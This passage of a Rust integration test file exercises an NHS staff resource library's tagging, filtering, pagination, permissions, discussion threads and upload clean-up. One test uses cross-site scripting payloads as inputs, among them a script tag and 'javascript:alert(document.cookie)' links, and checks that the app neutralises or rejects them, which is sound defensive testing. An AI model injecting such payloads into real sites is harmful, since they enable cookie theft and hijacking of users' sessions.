        app.join("sam@nhs.net", "Sam Jones", "link_worker", "wigan").await;
        let kim = member(&app, "kim@nhs.net", "Kim Lee").await;
        let a = Share::file("Fatigue and Long Covid leaflet", "leaflet.pdf", PDF)
            .tags("Fatigue, Long  Covid ,fatigue").borough("wigan").shared_by(&app).await;
        Share::link("Fatigue clinic for OTs", "https://example.org/fatigue-clinic")
            .tags("FATIGUE").audience("occupational_therapist").borough("salford").shared_by(&app).await;
        Share::link("Housing after Covid", "https://example.org/housing")
            .tags("long covid, Housing").audience("link_worker").shared_by(&kim).await;
        let d = Share::file("Sleep diary", "sleep.csv", CSV)
            .tags("sleep, fatigue, long covid, A&E").audience("link_worker").borough("wigan").shared_by(&kim).await;

        // Stored lower case, trimmed, once each.
        let page = kim.page(&format!("/resources/{a}")).await;
        assert_eq!(tags_on(&page), ["fatigue", "long covid"]);
        let edit_page = app.page(&format!("/resources/{a}/edit")).await;
        assert_eq!(input_value(&edit_page, "tags").as_deref(), Some("fatigue, long covid"));

        // Newest first; several tags narrow the list together.
        assert_eq!(titles(&kim, "").await, ["Sleep diary", "Housing after Covid", "Fatigue clinic for OTs", "Fatigue and Long Covid leaflet"]);
        assert_eq!(sorted(titles(&kim, "?tag=fatigue").await), ["Fatigue and Long Covid leaflet", "Fatigue clinic for OTs", "Sleep diary"]);
        assert_eq!(titles(&kim, "?tag=fatigue&tag=long%20covid").await, ["Sleep diary", "Fatigue and Long Covid leaflet"]);
        assert_eq!(titles(&kim, "?tag=Fatigue&tag=long+covid&tag=sleep").await, ["Sleep diary"]);
        assert!(titles(&kim, "?tag=fatigue&tag=housing").await.is_empty());
        let page = kim.page("/resources?tag=fatigue&tag=long%20covid").await;
        assert!(page.contains("<h2>2 resources</h2>"));

        // The tag cloud counts what carries each tag.
        let page = kim.page("/resources").await;
        assert_eq!(cloud(&page), ["fatigue (3)", "long covid (3)", "a&e (1)", "housing (1)", "sleep (1)"]);
        // A cloud tag narrows the list when followed.
        let href = attr_of(&page, r#"ul.cloud a.tag[href*="housing"]"#, "href").unwrap();
        assert_eq!(titles(&kim, href.strip_prefix("/resources").unwrap()).await, ["Housing after Covid"]);

        // "For OTs" includes what is for everyone; likewise for link workers.
        assert_eq!(titles(&kim, "?audience=occupational_therapist").await, ["Fatigue clinic for OTs", "Fatigue and Long Covid leaflet"]);
        assert_eq!(titles(&kim, "?audience=link_worker").await, ["Sleep diary", "Housing after Covid", "Fatigue and Long Covid leaflet"]);
        assert_eq!(titles(&kim, "?audience=both").await, ["Fatigue and Long Covid leaflet"]);

        // Borough and type, alone and with tags.
        assert_eq!(titles(&kim, "?borough=wigan").await, ["Sleep diary", "Fatigue and Long Covid leaflet"]);
        assert_eq!(titles(&kim, "?borough=salford").await, ["Fatigue clinic for OTs"]);
        assert_eq!(titles(&kim, "?kind=file").await, ["Sleep diary", "Fatigue and Long Covid leaflet"]);
        assert_eq!(titles(&kim, "?kind=link").await, ["Housing after Covid", "Fatigue clinic for OTs"]);
        assert_eq!(titles(&kim, "?kind=link&tag=fatigue&audience=occupational_therapist&borough=salford").await, ["Fatigue clinic for OTs"]);
        assert_eq!(titles(&kim, "?kind=file&tag=sleep&borough=salford").await, Vec::<String>::new());
        // Empty choices from the filter form mean "any".
        assert_eq!(titles(&kim, "?audience=&borough=&kind=").await.len(), 4);

        // A tag with a character that means something in an address still links right.
        let page = kim.page(&format!("/resources/{d}")).await;
        assert_eq!(tags_on(&page), ["a&e", "fatigue", "long covid", "sleep"]);
        let href = attr_of(&page, "dl.summary-list a.tag", "href").unwrap();
        assert_eq!(titles(&kim, href.strip_prefix("/resources").unwrap()).await, ["Sleep diary"]);

        // Nonsense in the address is a clear 400, not a crash.
        for query in ["?borough=atlantis", "?kind=video", "?audience=surgeons"] {
            assert_eq!(kim.get(&format!("/resources{query}")).await.status(), StatusCode::BAD_REQUEST, "{query}");
        }
    }

    async fn the_library_shows_twenty_a_page(app: TestApp) {
        app.join("sam@nhs.net", "Sam Jones", "link_worker", "wigan").await;
        for n in 1..=25 {
            Share::link(&format!("Service number {n:02}"), &format!("https://example.org/services/{n}"))
                .tags(if n % 2 == 0 { "even" } else { "odd" })
                .shared_by(&app).await;
        }
        let page = app.page("/resources").await;
        let first: Vec<String> = (6..=25).rev().map(|n| format!("Service number {n:02}")).collect();
        assert_eq!(listed(&page), first);
        assert!(page.contains("<h2>25 resources</h2>"));
        assert_eq!(text_of(&page, "nav.pagination span").as_deref(), Some("Page 1 of 2"));
        let next = attr_of(&page, r#"nav.pagination a[rel="next"]"#, "href").expect("a next page link");
        let page = app.page(&next).await;
        let rest: Vec<String> = (1..=5).rev().map(|n| format!("Service number {n:02}")).collect();
        assert_eq!(listed(&page), rest);
        assert!(attr_of(&page, r#"nav.pagination a[rel="prev"]"#, "href").is_some());
        assert!(attr_of(&page, r#"nav.pagination a[rel="next"]"#, "href").is_none());

        // Pages keep the filters.
        let page = app.page("/resources?tag=odd").await;
        assert_eq!(listed(&page).len(), 13);
        assert!(page.contains("<h2>13 resources</h2>"));
        assert_eq!(count_of(&page, "nav.pagination"), 0);
        let page = app.page("/resources?kind=link&page=2").await;
        assert_eq!(listed(&page), rest);
        let prev = attr_of(&page, r#"nav.pagination a[rel="prev"]"#, "href").unwrap();
        assert!(prev.contains("kind=link") && prev.contains("page=1"), "{prev}");
    }

    async fn a_common_tag_and_a_rare_one_list_the_same_newest_first_on_every_page(app: TestApp) {
        // 30 resources, 28 of them on "common": its pages are found by walking the library
        // newest first; the rare tag's from the tag's own list.
        app.join("sam@nhs.net", "Sam Jones", "link_worker", "wigan").await;
        let kim = member(&app, "kim@nhs.net", "Kim Lee").await;
        let fay = facilitator(&app, "fay@nhs.net", "Fay Green").await;
        let mut ids = Vec::new();
        for n in 1..=30 {
            let tags = match n {
                7 | 19 => "rare, common",
                12 => "other",
                20 => "rare",
                _ => "common",
            };
            let sharer = if n == 3 || n == 24 { &kim } else { &app.browser };
            let id = Share::link(&format!("Service number {n:02}"), &format!("https://example.org/services/{n}"))
                .tags(tags).shared_by(sharer).await;
            ids.push(id);
        }
        // Kim's numbers 3 and 24 are hidden: she still sees them, Sam does not.
        for n in [24, 3] {
            let response = fay.post(&format!("/resources/{}/hide", ids[n - 1]), &[]).await;
            assert_eq!(response.status(), StatusCode::SEE_OTHER);
        }
        let newest_first = |numbers: &mut dyn Iterator<Item = usize>| -> Vec<String> {
            numbers.map(|n| format!("Service number {n:02}")).collect()
        };
        let common: Vec<String> = newest_first(&mut (1..=30).rev().filter(|n| ![12, 20].contains(n)));
        let page = kim.page("/resources?tag=common").await;
        assert!(page.contains("<h2>28 resources</h2>"), "Kim sees her own hidden ones: {page}");
        assert_eq!(listed(&page), common[..20]);
        assert_eq!(listed(&kim.page("/resources?tag=common&page=2").await), common[20..]);

        let page = app.page("/resources?tag=common").await;
        assert!(page.contains("<h2>26 resources</h2>"), "{page}");
        let sams: Vec<String> = common.iter().filter(|t| !t.ends_with("03") && !t.ends_with("24")).cloned().collect();
        assert_eq!(listed(&page), sams[..20]);
        assert_eq!(listed(&app.page("/resources?tag=common&page=2").await), sams[20..]);

        assert_eq!(titles(&kim, "?tag=rare").await, newest_first(&mut [20, 19, 7].into_iter()));
        assert_eq!(titles(&kim, "?tag=rare&tag=common").await, newest_first(&mut [19, 7].into_iter()));
        assert_eq!(titles(&kim, "?tag=common&kind=link&page=2").await, common[20..]);
        assert!(titles(&kim, "?tag=nobody-uses-this").await.is_empty());
    }

    async fn visitors_are_sent_to_sign_in(app: TestApp) {
        app.join("sam@nhs.net", "Sam Jones", "link_worker", "wigan").await;
        let id = Share::file("Fatigue leaflet", "fatigue.pdf", PDF).shared_by(&app).await;
        let visitor = app.another_browser();
        assert_redirects_to(&visitor.get("/resources").await, "/login?next=%2Fresources");
        assert_redirects_to(&visitor.get("/resources/new").await, "/login?next=%2Fresources%2Fnew");
        assert_redirects_to(&visitor.get(&format!("/resources/{id}")).await, &format!("/login?next=%2Fresources%2F{id}"));
        let response = visitor.get(&format!("/resources/{id}/download")).await;
        assert_redirects_to(&response, &format!("/login?next=%2Fresources%2F{id}%2Fdownload"));
        assert!(response.bytes().await.unwrap().windows(4).all(|w| w != b"%PDF"), "no file for visitors");
        // A visitor's upload goes nowhere.
        let response = Share::file("Sneaky", "sneaky.pdf", b"%PDF-1.4 sneaky\n%%EOF\n").send(&visitor).await;
        assert!(matches!(response.status(), StatusCode::FORBIDDEN | StatusCode::SEE_OTHER), "{}", response.status());
        assert_eq!(resource_rows(&app), 1);
        let page = app.page(&format!("/resources/{id}")).await;
        assert_eq!(detail(&page, "Downloads").as_deref(), Some("0"), "a refused visitor is not counted");
    }

    async fn members_change_only_their_own_resources(app: TestApp) {
        app.join("sam@nhs.net", "Sam Jones", "link_worker", "wigan").await;
        let kim = member(&app, "kim@nhs.net", "Kim Lee").await;
        let id = Share::file("Fatigue leaflet", "fatigue.pdf", PDF).tags("fatigue").shared_by(&app).await;
        let file = stored_file_of(&app, id);

        // Kim sees it but cannot change it.
        let page = kim.page(&format!("/resources/{id}")).await;
        assert_eq!(count_of(&page, &format!(r#"a[href="/resources/{id}/edit"]"#)), 0);
        assert_eq!(count_of(&page, &format!(r#"form[action="/resources/{id}/delete"]"#)), 0);
        assert_eq!(kim.get(&format!("/resources/{id}/edit")).await.status(), StatusCode::FORBIDDEN);
        let response = kim.post(&format!("/resources/{id}/edit"), &[("title", "Kim's now"), ("audience", "both")]).await;
        assert_eq!(response.status(), StatusCode::FORBIDDEN);
        assert_eq!(kim.post(&format!("/resources/{id}/delete"), &[]).await.status(), StatusCode::FORBIDDEN);
        assert_eq!(kim.post(&format!("/resources/{id}/hide"), &[]).await.status(), StatusCode::FORBIDDEN);
        assert_eq!(kim.get("/resources/tags").await.status(), StatusCode::FORBIDDEN);
        assert_eq!(kim.post("/resources/tags", &[("from", "fatigue"), ("to", "tiredness")]).await.status(), StatusCode::FORBIDDEN);
        let page = kim.page(&format!("/resources/{id}")).await;
        assert_eq!(text_of(&page, "h1").as_deref(), Some("Fatigue leaflet"));
        assert_eq!(tags_on(&page), ["fatigue"]);
        assert!(file.exists());
        assert_eq!(titles(&kim, "").await, ["Fatigue leaflet"]);

        // Sam, who shared it, edits it.
        let response = edit(&app, id, |f| {
            set(f, "title", "Fatigue leaflet (2025)");
            set(f, "tags", "Fatigue, Pacing");
            set(f, "audience", "occupational_therapist");
            set(f, "borough", "wigan");
            set(f, "description", "Updated with **pacing** advice.");
        }).await;
        assert_redirects_to(&response, &format!("/resources/{id}"));
        let page = kim.page(&format!("/resources/{id}")).await;
        assert_eq!(text_of(&page, "h1").as_deref(), Some("Fatigue leaflet (2025)"));
        assert_eq!(tags_on(&page), ["fatigue", "pacing"]);
        assert_eq!(detail(&page, "For").as_deref(), Some("Occupational therapists"));
        assert_eq!(detail(&page, "Borough").as_deref(), Some("Wigan"));
        assert_eq!(text_of(&page, ".prose strong").as_deref(), Some("pacing"));
        // Its file is untouched.
        assert_eq!(download(&kim, id).await.bytes, PDF);

        // A bad edit keeps what was typed.
        let response = edit(&app, id, |f| { set(f, "title", ""); set(f, "tags", "kept, tags"); }).await;
        assert_eq!(response.status(), StatusCode::UNPROCESSABLE_ENTITY);
        let page = response.text().await.unwrap();
        assert_eq!(field_error(&page, "title").as_deref(), Some("Error: Enter a title"));
        assert_eq!(input_value(&page, "tags").as_deref(), Some("kept, tags"));

        // And deletes it: gone from the library and from the upload folder.
        let response = app.post(&format!("/resources/{id}/delete"), &[]).await;
        assert_redirects_to(&response, "/resources");
        assert_eq!(kim.get(&format!("/resources/{id}")).await.status(), StatusCode::NOT_FOUND);
        assert_eq!(kim.get(&format!("/resources/{id}/download")).await.status(), StatusCode::NOT_FOUND);
        assert!(titles(&kim, "").await.is_empty());
        assert!(!file.exists(), "the stored file is deleted with the resource");
        assert_eq!(stored_files(&app), Vec::<PathBuf>::new());
        // Its tags no longer count in the cloud.
        assert!(cloud(&kim.page("/resources").await).is_empty());
    }

    async fn facilitators_edit_hide_and_delete_any_resource(app: TestApp) {
        app.join("sam@nhs.net", "Sam Jones", "link_worker", "wigan").await;
        let kim = member(&app, "kim@nhs.net", "Kim Lee").await;
        let fay = facilitator(&app, "fay@nhs.net", "Fay Green").await;
        let id = Share::file("Fatigue leaflet", "fatigue.pdf", PDF).tags("fatigue").shared_by(&app).await;
        let other = Share::file("Pacing chart", "pacing.png", &png()).tags("pacing").shared_by(&app).await;

        // A facilitator re-tags and retitles someone else's resource.
        let response = edit(&fay, id, |f| { set(f, "title", "Fatigue leaflet (checked)"); set(f, "tags", "fatigue, checked"); }).await;
        assert_redirects_to(&response, &format!("/resources/{id}"));
        let page = kim.page(&format!("/resources/{id}")).await;
        assert_eq!(text_of(&page, "h1").as_deref(), Some("Fatigue leaflet (checked)"));
        assert_eq!(tags_on(&page), ["checked", "fatigue"]);

        // Hides it: members no longer see it, nor can they fetch it.
        let response = fay.post(&format!("/resources/{id}/hide"), &[]).await;
        assert_redirects_to(&response, &format!("/resources/{id}"));
        assert_eq!(titles(&kim, "").await, ["Pacing chart"]);
        assert_eq!(kim.get(&format!("/resources/{id}")).await.status(), StatusCode::NOT_FOUND);
        assert_eq!(kim.get(&format!("/resources/{id}/download")).await.status(), StatusCode::NOT_FOUND);
        assert_eq!(titles(&kim, "?tag=checked").await, Vec::<String>::new());
        assert_eq!(cloud(&kim.page("/resources").await), ["pacing (1)"]);
        // The owner and facilitators still do, marked hidden.
        for (who, browser) in [("the owner", &app.browser), ("a facilitator", &fay)] {
            assert_eq!(sorted(titles(browser, "").await), ["Fatigue leaflet (checked)", "Pacing chart"], "{who}");
            let page = browser.page(&format!("/resources/{id}")).await;
            assert_eq!(text_of(&page, "p.notice").as_deref(), Some("This resource is hidden from members."), "{who}");
            assert_eq!(download(browser, id).await.bytes, PDF, "{who}");
        }
        // Shown again, members see it again.
        assert_redirects_to(&fay.post(&format!("/resources/{id}/unhide"), &[]).await, &format!("/resources/{id}"));
        assert_eq!(sorted(titles(&kim, "").await), ["Fatigue leaflet (checked)", "Pacing chart"]);
        kim.page(&format!("/resources/{id}")).await;

        // And deletes any resource, its file with it.
        let file = stored_file_of(&app, other);
        assert!(file.exists());
        assert_redirects_to(&fay.post(&format!("/resources/{other}/delete"), &[]).await, "/resources");
        assert!(!file.exists());
        assert_eq!(app.get(&format!("/resources/{other}")).await.status(), StatusCode::NOT_FOUND);
        assert_eq!(titles(&app, "").await, ["Fatigue leaflet (checked)"]);
        assert_eq!(files_in(&uploads(&app)).len(), 1);
    }

    async fn facilitators_rename_and_merge_tags(app: TestApp) {
        app.join("sam@nhs.net", "Sam Jones", "link_worker", "wigan").await;
        let fay = facilitator(&app, "fay@nhs.net", "Fay Green").await;
        let a = Share::link("Fatigue clinic", "https://example.org/a").tags("fatigue, long covid").shared_by(&app).await;
        let b = Share::link("Covid recovery", "https://example.org/b").tags("long covid").shared_by(&app).await;
        let c = Share::link("Tiredness tips", "https://example.org/c").tags("tiredness").shared_by(&app).await;

        // Members cannot.
        assert_eq!(app.get("/resources/tags").await.status(), StatusCode::FORBIDDEN);
        assert_eq!(app.post("/resources/tags", &[("from", "fatigue"), ("to", "tired")]).await.status(), StatusCode::FORBIDDEN);

        // Rename: every resource carrying the tag follows.
        let page = fay.page("/resources/tags").await;
        assert!(page.contains("long covid (2)"), "{page}");
        assert_redirects_to(&fay.post("/resources/tags", &[("from", "Long Covid"), ("to", "Post-Covid")]).await, "/resources/tags");
        assert_eq!(tags_on(&app.page(&format!("/resources/{a}")).await), ["fatigue", "post-covid"]);
        assert_eq!(tags_on(&app.page(&format!("/resources/{b}")).await), ["post-covid"]);
        assert!(titles(&app, "?tag=long%20covid").await.is_empty());

        // Merge: a tag renamed to one in use joins it, once per resource.
        assert_redirects_to(&fay.post("/resources/tags", &[("from", "tiredness"), ("to", "fatigue")]).await, "/resources/tags");
        assert_eq!(tags_on(&app.page(&format!("/resources/{c}")).await), ["fatigue"]);
        assert_redirects_to(&fay.post("/resources/tags", &[("from", "post-covid"), ("to", "fatigue")]).await, "/resources/tags");
        assert_eq!(tags_on(&app.page(&format!("/resources/{a}")).await), ["fatigue"]);
        assert_eq!(tags_on(&app.page(&format!("/resources/{b}")).await), ["fatigue"]);
        assert_eq!(cloud(&app.page("/resources").await), ["fatigue (3)"]);
        assert_eq!(sorted(titles(&app, "?tag=fatigue").await), ["Covid recovery", "Fatigue clinic", "Tiredness tips"]);

        // An unknown tag is a clear message.
        let response = fay.post("/resources/tags", &[("from", "nonsense"), ("to", "fatigue")]).await;
        assert_eq!(response.status(), StatusCode::UNPROCESSABLE_ENTITY);
        assert_eq!(field_error(&response.text().await.unwrap(), "from").as_deref(), Some("Error: No tag has that name"));
    }

    async fn link_resources_show_their_link_and_stay_web_links(app: TestApp) {
        app.join("sam@nhs.net", "Sam Jones", "link_worker", "wigan").await;
        let kim = member(&app, "kim@nhs.net", "Kim Lee").await;
        let url = "https://www.nhs.uk/conditions/covid-19/long-term-effects-of-covid-19-long-covid/";
        let id = Share::link("NHS: Long Covid <b>official</b>", url)
            .description("The **NHS** page. <script>alert('stolen')</script> <a href=\"javascript:alert(1)\">click</a>")
            .tags("long covid").shared_by(&app).await;

        let page = kim.page(&format!("/resources/{id}")).await;
        assert_eq!(detail(&page, "Link").as_deref(), Some(url));
        // The title is text and the description is cooked Markdown with nothing that runs.
        assert_eq!(text_of(&page, "h1").as_deref(), Some("NHS: Long Covid <b>official</b>"));
        assert_eq!(text_of(&page, ".prose strong").as_deref(), Some("NHS"));
        let prose = text_of(&page, ".prose").unwrap();
        assert!(!page.contains("<script>alert") && !prose.contains("stolen"), "{prose}");
        assert!(!page.to_lowercase().contains("javascript:"));
        assert_eq!(attr_of(&page, "dl.summary-list dd a[href^=\"https://\"]", "href").as_deref(), Some(url));
        assert!(attr_of(&page, "dl.summary-list dd a[href^=\"https://\"]", "rel").is_some_and(|r| r.contains("noopener")));
        assert_eq!(count_of(&page, &format!(r#"a[href="/resources/{id}/download"]"#)), 0, "a link has nothing to download");
        assert_eq!(kim.get(&format!("/resources/{id}/download")).await.status(), StatusCode::NOT_FOUND);
        let list = kim.page("/resources").await;
        assert!(text_of(&list, "ul.card-list li.card p.muted").is_some_and(|t| t.starts_with("Link")));
        assert!(stored_files(&app).is_empty(), "a link stores no file");

        // The owner changes the address.
        let response = edit(&app, id, |f| set(f, "url", "https://www.gov.uk/long-covid")).await;
        assert_redirects_to(&response, &format!("/resources/{id}"));
        assert_eq!(detail(&kim.page(&format!("/resources/{id}")).await, "Link").as_deref(), Some("https://www.gov.uk/long-covid"));

        // But not to anything a browser would run.
        for bad in ["javascript:alert(document.cookie)", "data:text/html,<script>alert(1)</script>", " JavaScript:alert(1)", ""] {
            let response = edit(&app, id, |f| set(f, "url", bad)).await;
            assert_eq!(response.status(), StatusCode::UNPROCESSABLE_ENTITY, "{bad:?}");
            let page = response.text().await.unwrap();
            assert!(field_error(&page, "url").is_some(), "{bad:?}");
            assert_eq!(input_value(&page, "url").as_deref(), Some(bad), "{bad:?}");
            let shown = kim.page(&format!("/resources/{id}")).await;
            assert_eq!(detail(&shown, "Link").as_deref(), Some("https://www.gov.uk/long-covid"), "{bad:?}");
            assert!(!shown.to_lowercase().contains("javascript:"), "{bad:?}");
        }
    }

    async fn discussing_a_resource_opens_one_thread(app: TestApp) {
        app.join("sam@nhs.net", "Sam Jones", "link_worker", "wigan").await;
        let kim = member(&app, "kim@nhs.net", "Kim Lee").await;
        let id = Share::file("Fatigue leaflet", "fatigue.pdf", PDF).shared_by(&app).await;
        let page = kim.page(&format!("/resources/{id}")).await;
        assert_eq!(text_of(&page, &format!(r#"form[action="/resources/{id}/discuss"] button"#)).as_deref(), Some("Discuss this resource"));

        let response = kim.post(&format!("/resources/{id}/discuss"), &[]).await;
        let thread = location(&response);
        assert_eq!(response.status(), StatusCode::SEE_OTHER);
        let thread_id: i64 = thread.strip_prefix("/threads/").and_then(|t| t.parse().ok()).unwrap_or_else(|| panic!("{thread}"));
        {
            use spot::schema::threads;
            let mut conn = app.db.conn().unwrap();
            let (category, title): (i64, String) = threads::table.find(thread_id).select((threads::category_id, threads::title)).first(&mut *conn).unwrap();
            assert_eq!(category, category_id(&app, "resource-discussions"));
            assert!(title.contains("Fatigue leaflet"), "{title}");
        }
        let page = kim.page(&thread).await;
        assert!(page.contains("Resource discussions"), "the thread is in Resource discussions");
        // Its first post links back, and shows the resource's card.
        assert_eq!(texts_of(&page, "li.resource-card a"), ["Fatigue leaflet"]);

        // The second time, by anyone, goes to the same thread.
        assert_redirects_to(&app.post(&format!("/resources/{id}/discuss"), &[]).await, &thread);
        assert_redirects_to(&kim.post(&format!("/resources/{id}/discuss"), &[]).await, &thread);
        let page = kim.page(&format!("/resources/{id}")).await;
        assert_eq!(text_of(&page, &format!(r#"a[href="{thread}"]"#)).as_deref(), Some("Go to the discussion"));
        use spot::schema::threads;
        let mut conn = app.db.conn().unwrap();
        let count: i64 = threads::table.filter(threads::category_id.eq(category_id(&app, "resource-discussions"))).count().get_result(&mut *conn).unwrap();
        assert_eq!(count, 1);
    }

    async fn a_resource_with_the_longest_title_can_be_discussed(app: TestApp) {
        app.join("sam@nhs.net", "Sam Jones", "link_worker", "wigan").await;
        let title = format!("Greater Manchester guide {}", "x".repeat(175));
        assert_eq!(title.chars().count(), 200, "the longest title a resource may have");
        let id = Share::file(&title, "guide.pdf", PDF).shared_by(&app).await;
        let response = app.post(&format!("/resources/{id}/discuss"), &[]).await;
        assert_eq!(response.status(), StatusCode::SEE_OTHER, "discussing a resource with a 200-character title: {}", text_of(&response.text().await.unwrap(), "main").unwrap_or_default().trim());
    }

    async fn a_forum_post_linking_a_resource_shows_its_card(app: TestApp) {
        app.join("sam@nhs.net", "Sam Jones", "link_worker", "wigan").await;
        let kim = member(&app, "kim@nhs.net", "Kim Lee").await;
        let fay = facilitator(&app, "fay@nhs.net", "Fay Green").await;
        let leaflet = Share::file("Fatigue leaflet", "fatigue.pdf", PDF).shared_by(&app).await;
        let link = Share::link("NHS Long Covid page", "https://www.nhs.uk/").shared_by(&app).await;
        let thread = start_thread(&kim, "post-covid-rehabilitation", "Pacing resources", "What do you give people?").await;
        let post = reply(&app, thread, &format!("Try [this leaflet](/resources/{leaflet}) and {}/resources/{link} too.", app.address)).await;

        let page = kim.page(&format!("/threads/{thread}")).await;
        let cards = format!("#post-{post} li.resource-card");
        assert_eq!(texts_of(&page, &format!("{cards} a")), ["Fatigue leaflet", "NHS Long Covid page"]);
        assert_eq!(attr_of(&page, &format!("{cards} a"), "href"), Some(format!("/resources/{leaflet}")));
        assert!(text_of(&page, &cards).is_some_and(|t| t.contains("PDF")));
        assert_eq!(count_of(&page, "li.resource-card"), 2, "only the post that links them has cards");

        // A hidden resource shows no card to anyone's members.
        fay.post(&format!("/resources/{leaflet}/hide"), &[]).await;
        let page = kim.page(&format!("/threads/{thread}")).await;
        assert_eq!(texts_of(&page, &format!("{cards} a")), ["NHS Long Covid page"]);
    }

    async fn a_failed_database_write_leaves_no_file(app: TestApp) {
        app.join("sam@nhs.net", "Sam Jones", "link_worker", "wigan").await;
        // The database refuses the upload's tags, after its row is written.
        let (create, drop): (Vec<&str>, &str) = match app.engine {
            Engine::Sqlite => (
                vec!["CREATE TRIGGER refuse_tags BEFORE INSERT ON resource_tags BEGIN SELECT RAISE(ABORT, 'refused by the test'); END"],
                "DROP TRIGGER refuse_tags",
            ),
            Engine::Postgres => (
                vec![
                    "CREATE FUNCTION refuse_tags() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN RAISE EXCEPTION 'refused by the test'; END $$",
                    "CREATE TRIGGER refuse_tags BEFORE INSERT ON resource_tags FOR EACH ROW EXECUTE FUNCTION refuse_tags()",
                ],
                "DROP TRIGGER refuse_tags ON resource_tags",
            ),
        };
        {
            let mut conn = app.db.conn().unwrap();
            for sql in create {
                diesel::sql_query(sql).execute(&mut *conn).expect("trigger created");
            }
        }
        let share = Share::file("Fatigue leaflet", "fatigue.pdf", PDF).tags("fatigue");
        let response = share.send(&app).await;
        assert_eq!(response.status(), StatusCode::INTERNAL_SERVER_ERROR);
        assert_nothing_stored(&app, &app, "an upload whose database write failed").await;
        assert_healthy(&app, "a failed database write").await;

        // Once the database accepts it, the same file is welcome: no half-stored copy
        // stands in its way.
        diesel::sql_query(drop).execute(&mut *app.db.conn().unwrap()).unwrap();
        let id = share.shared_by(&app).await;
        assert_eq!(download(&app, id).await.bytes, PDF);
        assert_eq!(files_in(&uploads(&app)).len(), 1);
    }

    async fn a_file_the_store_cannot_take_leaves_no_row(app: TestApp) {
        use std::os::unix::fs::MetadataExt;
        app.join("sam@nhs.net", "Sam Jones", "link_worker", "wigan").await;
        // Uploads arrive on another file system, so moving one into the store fails.
        let elsewhere = match tempfile::tempdir_in("/dev/shm") {
            Ok(dir) if std::fs::metadata(dir.path()).unwrap().dev() != std::fs::metadata(uploads(&app)).unwrap().dev() => dir,
            _ => {
                eprintln!("skipped: no second file system at /dev/shm");
                return;
            }
        };
        let incoming = uploads(&app).join(".incoming");
        std::fs::remove_dir(&incoming).unwrap();
        std::os::unix::fs::symlink(elsewhere.path(), &incoming).unwrap();

        let share = Share::file("Fatigue leaflet", "fatigue.pdf", PDF).tags("fatigue");
        let response = share.send(&app).await;
        assert_eq!(response.status(), StatusCode::INTERNAL_SERVER_ERROR);
        assert_nothing_stored(&app, &app, "an upload the store could not take").await;
        assert!(files_in(elsewhere.path()).is_empty(), "the arrived upload is cleaned up");
        assert!(cloud(&app.page("/resources").await).is_empty());
        assert_healthy(&app, "a failed store").await;

        // With the store working again, the same file is welcome.
        std::fs::remove_file(&incoming).unwrap();
        std::fs::create_dir(&incoming).unwrap();
        let id = share.shared_by(&app).await;
        assert_eq!(download(&app, id).await.bytes, PDF);
    }
}
